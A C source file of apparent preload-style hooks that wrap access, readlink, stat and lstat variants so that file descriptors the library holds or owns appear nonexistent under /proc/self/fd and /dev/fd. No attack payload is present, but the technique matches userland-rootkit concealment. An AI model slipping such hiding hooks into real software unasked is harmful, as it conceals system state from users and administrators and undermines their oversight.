/*
 * Calls that name a file: a number that is held, or ours, has no name under
 * /proc/self/fd or /dev/fd, as it would have none if it were free.
 */
#include "hooks/hooks.h"

int HOOK(access)(const char *path, int mode)
{
	int r = REAL(access)(path, mode);

	return name_hidden(r, path) ? fail(ENOENT) : r;
}

ssize_t HOOK(readlink)(const char *path, char *buf, size_t size)
{
	ssize_t r = REAL(readlink)(path, buf, size);

	return name_hidden(r, path) ? fail(ENOENT) : r;
}

ssize_t HOOK(__readlink_chk)(const char *path, char *buf, size_t size, size_t room)
{
	ssize_t r = REAL(__readlink_chk)(path, buf, size, room);

	return name_hidden(r, path) ? fail(ENOENT) : r;
}

int HOOK(stat)(const char *path, struct stat *st)
{
	int r = REAL(stat)(path, st);

	return name_hidden(r, path) ? fail(ENOENT) : r;
}

int HOOK(stat64)(const char *path, struct stat64 *st)
{
	int r = REAL(stat64)(path, st);

	return name_hidden(r, path) ? fail(ENOENT) : r;
}

int HOOK(lstat)(const char *path, struct stat *st)
{
	int r = REAL(lstat)(path, st);

	return name_hidden(r, path) ? fail(ENOENT) : r;
}

int HOOK(lstat64)(const char *path, struct stat64 *st)
{
	int r = REAL(lstat64)(path, st);

	return name_hidden(r, path) ? fail(ENOENT) : r;
}
